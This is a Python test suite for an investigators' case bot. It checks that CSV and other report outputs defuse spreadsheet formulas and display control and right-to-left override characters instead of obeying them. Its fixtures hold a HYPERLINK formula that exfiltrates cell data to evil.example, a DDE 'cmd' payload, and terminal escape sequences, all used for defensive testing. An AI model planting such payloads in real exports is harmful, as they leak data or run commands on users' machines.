"""Safe outputs: CSV cells that no spreadsheet runs, control and bidirectional characters shown
for what they are in every output, and refused in what people type or name."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.adapters.console import Console
from bot.adapters.telegram.render import keyboard, rendered, with_record
from bot.cli import cli
from bot.conversation.dialogue import Dialogue
from bot.conversation.replies import Option, Reply
from bot.core.channels import Identity
from bot.core.characters import first_unsafe
from bot.reports.formats import TEAM_FORMATS
from bot.reports.oversight import gather
from bot.services import investigating, people
from bot.store import log

from .oversight_world import World, make_world

REF = "43/12345/26"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"
UNSAFE = "\x1b[2J\x1b[8mhidden\x07 \u202eon\u202c"
SHOWN = "[U+001B][2J[U+001B][8mhidden[U+0007] [U+202E]on[U+202C]"


@pytest.fixture(name="world")
def _world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    """A case whose officer is named like a formula and whose answers were stored, by an older
    release, with formulas and control characters in them."""
    world = make_world(tmp_path)
    db = world.service.uow.db
    db.execute("UPDATE users SET name = ? WHERE name = 'Casey'", [FORMULA])
    world.refresh("Casey")
    casey = world.people["Casey"]
    ctx = world.service
    run_id = world.open("Casey", REF)
    investigating.answer(ctx, casey, run_id, "plan", "no")
    investigating.give_reason(ctx, casey, run_id, COMMAND)
    investigating.answer(ctx, casey, run_id, "records", "yes")
    investigating.answer(ctx, casey, run_id, "victim-update", "no")
    investigating.give_reason(ctx, casey, run_id, UNSAFE)
    investigating.answer(ctx, casey, run_id, "note", "-3 days slipped; @SUM(A1) " + FORMULA)
    monkeypatch.setenv("SOTERIA_DB", str(tmp_path / "state" / "soteria.db"))
    monkeypatch.setenv("SOTERIA_PLAYBOOKS", str(tmp_path / "playbooks"))
    monkeypatch.setenv("SOTERIA_CASE_KEY", "crime-reference")
    return world


def soteria(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.output


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_cell_runs(text: str) -> None:
    for cell in cells(text):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start so


def test_no_cell_of_the_team_csv_runs_as_a_formula(world):
    code, output = soteria("report", "--format", "csv", "--purpose", "supervision")

    assert code == 0, output
    assert_no_cell_runs(output)
    found = cells(output)
    assert "'" + FORMULA in found  # the officer's name, shown as typed
    assert "'" + COMMAND in found  # a typed reason
    assert "'-3 days slipped; @SUM(A1) " + FORMULA in found  # a typed answer
    assert SHOWN in found  # a control character shown for what it is


def test_no_cell_of_the_trainers_csv_runs_as_a_formula(world):
    code, output = soteria("report", "--trainer", "--format", "csv", "--purpose", "training")

    assert code == 0, output
    assert_no_cell_runs(output)
    assert "'" + COMMAND in cells(output)


@pytest.mark.parametrize("fmt", ["table", "disclosure"])
def test_the_plain_text_reports_show_control_characters_for_what_they_are(world, fmt):
    code, output = soteria("report", "--case", REF, "--format", fmt, "--purpose", "audit")

    assert code == 0, output
    assert SHOWN in output
    assert first_unsafe(output) is None


def test_the_team_table_shows_them_too(world):
    code, output = soteria("report", "--purpose", "supervision")

    assert code == 0, output
    assert first_unsafe(output) is None


def test_json_keeps_the_data_but_escapes_every_control_character(world):
    code, output = soteria("report", "--case", REF, "--format", "json", "--purpose", "audit")

    assert code == 0, output
    assert first_unsafe(output) is None
    assert "\\u202e" in output
    reasons = [item["reason"] for run in json.loads(output)["runs"] for item in run["items"]]
    assert UNSAFE in reasons  # the data itself is the data kept


def test_the_html_report_shows_them_and_never_obeys_them(world):
    page = TEAM_FORMATS["html"](gather(world.service))

    assert first_unsafe(page) is None
    assert "[U+202E]on[U+202C]" in page


def test_telegram_messages_and_buttons_show_them_for_what_they_are():
    reply = Reply(f"Reason: {UNSAFE}", ((Option("Open \u202e26/54321/34", "oc:1"),),), asks=None)

    ((text, markup),) = rendered(reply)
    label = keyboard(reply.options).inline_keyboard[0][0].text  # type: ignore[union-attr]

    assert text == f"Reason: {SHOWN}"
    assert markup is not None
    assert label == "Open [U+202E]26/54321/34"
    assert "\u202e" not in with_record("Asked?", f"No · {UNSAFE}")


def test_the_terminal_chat_shows_them_for_what_they_are(world):
    out = io.StringIO()
    console = Console(Dialogue(world.service), world.people["Sam"], out)

    console.show([Reply(f"Reason: {UNSAFE}", ((Option("\u202eOpen", "x"),),))])

    assert SHOWN in out.getvalue()
    assert "[U+202E]Open" in out.getvalue()
    assert first_unsafe(out.getvalue()) is None


def test_a_reason_typed_with_a_control_character_is_refused_and_nothing_is_kept(world):
    dialogue = Dialogue(world.service)
    robin = world.people["Robin"]
    world.open("Robin", "43/22222/26")
    dialogue.handle(robin, "/resume")
    dialogue.press(robin, next(o.action for r in dialogue.handle(robin, "/resume")
                               for row in r.options for o in row if o.label == "No"))  # fmt: skip
    before = len(log.entries(world.service.uow.db))

    replies = dialogue.handle(robin, "Awaiting \u202eallocation")

    assert replies[0].text.startswith(
        "That message holds an invisible control character, U+202E (right-to-left override)"
    )
    assert len(log.entries(world.service.uow.db)) == before


def test_a_name_taken_from_telegram_loses_its_control_characters(world):
    code = people.invite(world.service, "investigator", "North")

    enrolled = people.enrol(
        world.service, code, Identity("telegram", "9001"), "Jo\u202e \x1b[2JBloggs"
    )

    assert enrolled.user.name == "Jo [2JBloggs"


@pytest.mark.parametrize(
    "args",
    [
        ("users", "rename", "1", "DC Jo\x1b[2J"),
        ("users", "invite", "--role", "investigator", "--team", "North", "--name", "Jo\u202eB"),
        ("users", "invite", "--role", "investigator", "--team", "No\u202erth"),
    ],
    ids=["rename", "invite-name", "team"],
)
def test_an_administrator_cannot_give_a_name_with_a_control_character(world, args):
    code, output = soteria(*args)

    assert code == 1
    assert len(output.splitlines()) == 1
    assert "holds an invisible control character" in output
    assert first_unsafe(output) is None


def test_an_error_quoting_what_was_typed_shows_it_for_what_it_is(world):
    code, output = soteria("cases", "link", "C-\u202eABCDEF", REF)

    assert code == 1
    assert first_unsafe(output) is None
